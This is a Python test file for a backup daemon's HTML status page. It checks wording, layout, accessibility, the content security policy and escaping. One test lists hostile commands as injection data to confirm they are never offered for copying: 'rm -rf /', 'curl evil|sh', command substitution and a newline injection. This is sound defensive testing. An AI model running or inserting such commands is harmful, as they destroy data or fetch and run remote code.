"""The status page says what is so, is safe whatever it is told, can be read by anybody, and stays small."""

import json
import re
from base64 import b64encode
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta
from hashlib import sha256
from itertools import pairwise

import pytest

from drkit.bulletin import Bulletin, SourceBulletin, SystemBulletin
from drkit.daemon.model import Planned, Running, State
from drkit.daemon.page import POLICY, SCRIPT, Easel, describe_state, draw
from drkit.daemon.page.clock import say_distance, say_moment
from drkit.daemon.page.style import STYLE
from drkit.daemon.troubles import complete
from drkit.troubles import Trouble
from drkit.verify.model import Target
from outline import EVIL, Outline, contrast
from status_states import (
    DAY,
    HOUR,
    MINUTE,
    NOW,
    all_broken,
    by_name,
    empty,
    first_start,
    healthy,
    make_ended,
    make_source,
    make_unwell,
    many,
    troubled,
    unreachable,
)

STATES = (healthy, troubled, unreachable, all_broken, first_start, empty, many)
every_state = pytest.mark.parametrize("make", STATES, ids=lambda make: make.__name__)


def text_of(page: str) -> str:
    return " ".join(re.sub("<[^>]*>", " ", re.sub("<(style|title).*?</\\1>", " ", page)).split())


def only(*sources: SourceBulletin) -> State:
    return replace(healthy(), bulletin=Bulletin(sources), running=(), last={})


@pytest.mark.parametrize(
    ("make", "answer", "title"),
    [
        (healthy, "Yes: all 6 sources are well.", "✓ 6 well"),
        (troubled, "No: 3 of 6 sources need you.", "✗ 3 of 6"),
        (unreachable, "No: 3 of 6 sources need you.", "✗ 3 of 6"),
        (all_broken, "No: all 6 sources need you.", "✗ 6 of 6"),
        (first_start, "Nobody knows yet: 6 sources to look at.", "? starting"),
        (empty, "There is nothing to back up yet.", "nothing yet"),
        (many, "No: 3 of 200 sources need you.", "✗ 3 of 200"),
    ],
)
def test_the_answer_comes_first(make: Callable[[], State], answer: str, title: str) -> None:
    page = draw(make(), NOW)
    assert text_of(page).startswith(f"Are the backups well? {answer}")
    assert f"<title>{title} · drkit</title>" in page


def test_a_source_or_two_are_called_so() -> None:
    one, other = make_source("shop/main"), make_source("shop/files")
    assert "Yes: shop/main is well." in draw(replace(only(one), planned=()), NOW)
    assert "Yes: both sources are well." in draw(replace(only(one, other), planned=()), NOW)
    bad = make_unwell(one, Trouble("overdue", "a backup is overdue", NOW, "look"))
    assert "No: shop/main needs you." in draw(replace(only(bad), planned=()), NOW)
    assert "No: 1 of 2 sources needs you." in draw(replace(only(bad, other), planned=()), NOW)


def test_what_is_wrong_besides_sources_is_in_the_answer_too() -> None:
    state = complete(replace(healthy(), config_error="shop.toml: no such key"))
    assert "Not quite: all 6 sources are well, but the configuration needs you." in draw(state, NOW)
    assert "No: the schedules cannot be loaded." in draw(complete(replace(first_start(), config_error="x")), NOW)


def test_who_has_not_looked_for_long_does_not_say_that_all_is_well() -> None:
    page = draw(healthy(), NOW + timedelta(minutes=33))
    assert "Nobody knows: the stores were not looked at lately." in page
    assert "The stores were not looked at for 33m20s" in page


def test_a_trouble_is_shown_with_its_beginning_and_the_next_step() -> None:
    shown = text_of(draw(troubled(), NOW))
    assert "What needs you ✗ shop/orders The last backup failed: connection to server" in shown
    assert "since 14:06 , 24 min ago Next: drkit check shop/orders" in shown
    assert "RPO missed: what would be lost now is 5h24m, and 2h was promised since 11:06 , 3 h 24 min ago" in shown


def test_the_same_trouble_of_many_is_told_once() -> None:
    page = draw(unreachable(), NOW)
    assert page.count("<article") == 1
    assert "shop/orders, shop/ledger and shop/uploads" in text_of(page)
    assert text_of(page).count("did not answer") == 1


def test_systems_in_trouble_stand_before_the_others_and_so_do_their_sources() -> None:
    page = draw(troubled(), NOW)
    assert page.index('id="h-shop"') < page.index('id="h-erp"') < page.index('id="h-pupuseria"')
    assert page.index('id="s-shop/orders"') < page.index('id="s-shop/uploads"')
    assert page.index('id="s-erp/attachments"') < page.index('id="s-erp/main"')


def test_a_source_shows_its_figures_against_what_was_promised() -> None:
    row = row_of(draw(healthy(), NOW), "shop/orders")
    assert text_of(row) == (
        "✓ orders postgres 24 min ago of 2h 6m40s of 15m 3 days ago in 36 min in 4 days 1,428 588.3 GB"
    )
    assert re.search(r"<title>70\d points, 4 verified, 1 gap</title>", row)
    assert '<i class="b4">' in row
    assert '<i class="b8">' in row


def test_a_bar_is_full_and_red_when_the_promise_is_broken() -> None:
    page = draw(troubled(), NOW)
    assert '<i class="b20 no">' in row_of(page, "shop/orders")
    assert '<i class="b20 no">' in row_of(page, "shop/ledger")
    kept = make_source("a/b", took=timedelta(minutes=14, seconds=59))
    assert '<i class="b19">' in row_of(draw(only(kept), NOW), "a/b")


def test_figures_grow_with_the_clock_although_nothing_new_is_known() -> None:
    state = only(make_source("shop/main", age=24 * MINUTE))
    assert "27 min ago" in row_of(draw(state, NOW + 3 * MINUTE), "shop/main")
    assert "No: shop/main needs you" in draw(replace(state, planned=(), looked_at=NOW + 2 * HOUR), NOW + 2.01 * HOUR)


def test_the_strip_spans_thirty_days_or_the_longest_window_if_that_is_shorter() -> None:
    assert ">30 days<" in draw(only(make_source("a/b", kept=60 * DAY), make_source("a/c", kept=3 * DAY)), NOW)
    assert ">6 days<" in draw(only(make_source("a/b", kept=6 * DAY), make_source("a/c", kept=3 * DAY)), NOW)
    assert ">4 h<" in draw(only(make_source("a/b", kept=5 * HOUR)), NOW)


def test_a_strip_is_open_where_there_is_a_gap() -> None:
    row = row_of(draw(only(make_source("a/b", missing=((12 * DAY, 11 * DAY),))), NOW), "a/b")
    points = re.search('class="points" d="([^"]*)"', row)
    hole = re.search('class="hole" d="M([0-9]+) 17h([0-9]+)"', row)
    assert points
    assert hole
    assert len(points[1].split("M")) == 3
    assert (int(hole[1]), int(hole[2])) == (107, 8)


def test_in_a_coarse_strip_a_missed_day_stays_visible() -> None:
    state = many(60, unwell=0)
    daily = make_source("x/daily", every=DAY, age=2 * HOUR, rpo=26 * HOUR, missing=((9.5 * DAY, 8.5 * DAY),))
    row = row_of(draw(replace(state, bulletin=Bulletin((*state.bulletin.sources, daily))), NOW), "x/daily")
    points = re.search('class="points" d="([^"]*)"', row)
    assert points
    assert len(points[1].split("M")) == 3
    assert 'class="hole"' in row


def test_a_running_job_shows_how_far_it_is() -> None:
    shown = text_of(draw(healthy(), NOW))
    assert "backup erp/main began 54 s ago" in shown
    assert "capturing public.invoices · 1.3 GB of 2.3 GB · 24.2 MB/s · 41 s left" in shown
    assert '<progress value="0.570" aria-label="backup of erp/main">57%</progress>' in draw(healthy(), NOW)


def test_a_job_of_whose_progress_nothing_is_known_shows_none() -> None:
    run = Running(("prune", "shop"), NOW, 1, NOW, "x")
    page = draw(replace(healthy(), running=(run,)), NOW)
    assert "<progress" not in page
    assert "Nothing is known of its progress yet." in page
    more = replace(run, done_bytes=5, total_bytes=0, bytes_per_second=0)
    assert "5 B" in text_of(draw(replace(healthy(), running=(more,)), NOW))


def test_jobs_that_failed_come_before_those_that_did_not() -> None:
    page = draw(troubled(), NOW)
    assert page.index('id="e-backup-shop/orders"') < page.index('id="e-backup-pupuseria/till"')
    assert "✗ failed (4)" in page


def test_a_job_that_another_daemon_took_has_not_failed() -> None:
    taken = replace(make_ended("backup", "shop/orders", HOUR, exit_code=75), taken=True)
    page = draw(replace(healthy(), last=by_name(taken)), NOW)
    assert "Yes: all 6 sources are well." in page
    assert "another daemon has it" in page


def test_where_nothing_is_the_page_says_so() -> None:
    shown = text_of(draw(empty(), NOW))
    assert "drkit init writes the first one." in shown
    assert "Nothing is planned." in shown
    assert "Since this daemon started, none." in shown
    assert "<table" not in draw(empty(), NOW)


def test_at_the_first_start_nobody_is_called() -> None:
    page = draw(first_start(), NOW)
    assert "The first look at the stores goes on." in page
    assert "What needs you" not in page
    failing = draw(complete(replace(first_start(), look_error="no such bucket")), NOW)
    assert "Nobody knows: the stores cannot be looked at." in failing
    assert "no such bucket" in failing
    assert "What needs you" in draw(first_start(), NOW + HOUR)


def hostile() -> State:
    trouble = Trouble(EVIL, EVIL, NOW, f"`{EVIL}` and `drkit x; rm -rf /`")
    source = replace(
        make_unwell(make_source(f"{EVIL}/{EVIL}"), trouble, trouble),
        kind=EVIL,
        notes=(EVIL,),
        warnings=(trouble,),
    )
    ended = make_ended(EVIL, EVIL, HOUR, EVIL, f"`{EVIL}`", 1)
    return State(
        NOW,
        config_error=EVIL,
        looked_at=NOW,
        look_error=EVIL,
        bulletin=Bulletin((source,), (SystemBulletin(EVIL, "2026-10", (), (trouble,)),), {f"{EVIL}/x": EVIL}),
        running=(Running((EVIL, EVIL), NOW, 1, NOW, EVIL, EVIL, 1, 2, 3),),
        planned=(Planned((EVIL, EVIL), NOW),),
        last=by_name(ended),
    )


def test_what_others_wrote_is_shown_and_never_becomes_markup() -> None:
    page = draw(complete(hostile()), NOW)
    outline = Outline(page)
    assert [each.get("src") for each in outline.all("script")] == ["status.js"]
    assert page.count("&lt;script&gt;alert(1)&lt;/script&gt;") >= 20
    assert not set(page) & {"\x1b", "\u202e", "\x00"}
    assert all(not name.startswith("on") for _, attributes, _ in outline.found for name in attributes)
    assert not any("style" in attributes for _, attributes, _ in outline.found)


def test_only_plain_commands_of_drkit_are_offered_for_copying() -> None:
    """Words of a failed run come from the store, and whoever can write there would have a hand on a clipboard."""
    good = ["drkit check", "drkit restore a/b --at 2026-11-20T14:30:00Z --to x"]
    evil = ["drkit x; rm -rf /", "curl evil|sh", "sudo drkit x", "drkit $(id)", "drkit x\nid"]
    steps = " ".join(f"`{command}`" for command in good + evil)
    bad = make_unwell(make_source("a/b"), Trouble("x", "x", None, steps))
    codes = re.findall('<code( class="cmd")?>([^<]*)</code>', draw(only(bad), NOW))
    offered = [command for offer, command in codes if offer]
    assert offered == good
    assert len(codes) == 7


def test_long_errors_are_cut() -> None:
    bad = make_unwell(make_source("a/b"), Trouble("x", "x" * 100_000, None, "y" * 100_000))
    assert len(draw(only(bad), NOW)) < 20_000


@every_state
def test_every_element_is_closed_where_it_was_opened(make: Callable[[], State]) -> None:
    assert Outline(draw(make(), NOW)).open == []


@every_state
def test_headings_leave_no_level_out(make: Callable[[], State]) -> None:
    levels = [int(tag[1]) for tag, _, _ in Outline(draw(make(), NOW)).found if re.fullmatch("h[1-6]", tag)]
    assert levels.count(1) == 1
    assert levels[0] == 1
    assert all(later <= earlier + 1 for earlier, later in pairwise(levels))


@every_state
def test_tables_have_captions_and_headers_with_a_scope(make: Callable[[], State]) -> None:
    outline = Outline(draw(make(), NOW))
    assert len(outline.all("caption")) == len(outline.all("table"))
    assert all(attributes.get("scope") in ("col", "row") for attributes in outline.all("th"))


@every_state
def test_landmarks_and_drawings_have_names(make: Callable[[], State]) -> None:
    outline = Outline(draw(make(), NOW))
    places = [attributes["id"] for _, attributes, _ in outline.found if "id" in attributes]
    assert len(set(places)) == len(places)
    assert all(attributes["aria-labelledby"] in places for attributes in outline.all("section"))
    assert len(outline.all("main")) == len(outline.all("footer")) == 1
    drawings = [each for each in outline.all("svg") if each.get("aria-hidden") != "true"]
    assert all(each.get("role") == "img" for each in drawings)
    assert sum(tag == "title" and above[-1] == "svg" for tag, _, above in outline.found) == len(drawings)


@pytest.mark.parametrize("scheme", [0, 1], ids=["light", "dark"])
def test_colours_of_words_stand_out_from_what_is_behind_them(scheme: int) -> None:
    colours = dict(re.findall(r"--(\w+):(#\w{6})", STYLE.split(":root{")[scheme + 1]))
    for ground in ("paper", "panel"):
        for name in ("ink", "soft", "yes", "no", "unknown"):
            assert contrast(colours[name], colours[ground]) >= 4.5
    assert contrast(colours["fill"], colours["paper"]) >= 3


def test_the_policy_admits_the_style_of_the_page_and_nothing_from_elsewhere() -> None:
    page = draw(troubled(), NOW)
    style = re.search("<style>(.*?)</style>", page, re.DOTALL)
    assert style
    assert f"style-src 'sha256-{b64encode(sha256(style[1].encode()).digest()).decode()}'" in POLICY
    assert "unsafe" not in POLICY
    assert not re.search(r'(?:src|href)="(?!status\.js|readyz|metrics|status\.json|data:)', page)
    assert "url(" not in page
    assert not re.search(r"https?:", SCRIPT)


def test_it_comes_anew_by_itself_where_no_script_runs() -> None:
    assert '<noscript><meta http-equiv="refresh" content="30"></noscript>' in draw(healthy(), NOW)


@pytest.mark.parametrize("unwell", [0, 3, 200])
def test_two_hundred_sources_fit_into_two_hundred_kilobytes(unwell: int) -> None:
    error = "could not connect: " + "x" * 400
    state = many(unwell=unwell)
    bad = [
        make_unwell(each, *(Trouble(kind, f"{kind} of {each.source}: {error}", NOW, error) for kind in ("a", "b", "c")))
        for each in state.bulletin.sources[:unwell]
    ]
    sources = (*bad, *state.bulletin.sources[unwell:])
    state = replace(state, bulletin=replace(state.bulletin, sources=sources))
    failed = [make_ended("backup", each.source, HOUR, error, error, 4) for each in state.bulletin.sources[:unwell]]
    runs = tuple(Running(each.name, NOW, 1, NOW, "x", error, 1, 2, 3) for each in failed)
    state = replace(state, last={**state.last, **by_name(*failed)}, running=runs)
    assert len(draw(state, NOW).encode()) <= 200_000


def test_with_very_many_sources_systems_that_are_well_are_folded_up() -> None:
    outline = Outline(draw(many(), NOW))
    folds = [attributes for tag, attributes, above in outline.found if tag == "details" and above[-1] == "section"]
    assert len(folds) == 12
    assert sum("open" in each for each in folds) == 3
    assert 'class="system"><details' not in draw(healthy(), NOW)


def test_an_easel_draws_what_a_new_one_would() -> None:
    easel = Easel()
    for make in (healthy, troubled, healthy, many):
        assert easel.draw(make(), NOW) == draw(make(), NOW)
    state = healthy()
    easel.draw(state, NOW)
    assert easel.draw(state, NOW + MINUTE) == draw(state, NOW + MINUTE)


@every_state
def test_the_json_form_holds_what_the_page_shows(make: Callable[[], State]) -> None:
    state = make()
    told = json.loads(json.dumps(describe_state(state, NOW)))
    assert [each["source"] for each in told["sources"]] == [each.source for each in state.bulletin.sources]
    assert told["ready"] == (not told["troubles"])
    assert len(told["next"]) == len(state.planned)
    assert len(json.dumps(told)) < 300_000


@pytest.mark.parametrize(
    ("ago", "said"),
    [
        (timedelta(0), "now"),
        (timedelta(seconds=59), "59 s ago"),
        (timedelta(seconds=60), "1 min ago"),
        (timedelta(minutes=59, seconds=59), "59 min ago"),
        (timedelta(hours=1), "1 h ago"),
        (timedelta(hours=9, minutes=59), "9 h 59 min ago"),
        (timedelta(hours=10, minutes=59), "10 h ago"),
        (timedelta(hours=47, minutes=59), "47 h ago"),
        (timedelta(hours=48), "2 days ago"),
        (-timedelta(minutes=12), "in 12 min"),
    ],
)
def test_how_long_ago_is_told_to_what_matters(ago: timedelta, said: str) -> None:
    assert say_distance(NOW - ago, NOW) == said


def test_a_moment_of_another_day_is_told_with_its_day() -> None:
    assert say_moment(NOW - HOUR, NOW) == "13:30"
    assert say_moment(NOW - DAY, NOW) == "20 Nov 14:30"


def test_a_source_without_promises_is_measured_against_none() -> None:
    plain = make_source("a/b", rpo=None, rto=None, took=None)
    row = row_of(draw(only(plain), NOW), "a/b")
    assert " of " not in text_of(row)
    assert "<i" not in row
    promised = replace(plain, rto=Target(HOUR, None, None))
    assert "? of 1h" in text_of(row_of(draw(only(promised), NOW), "a/b"))


def row_of(page: str, source: str) -> str:
    found = re.search(f'<tr id="s-{source}">.*?</tr>', page)
    assert found
    return found[0]
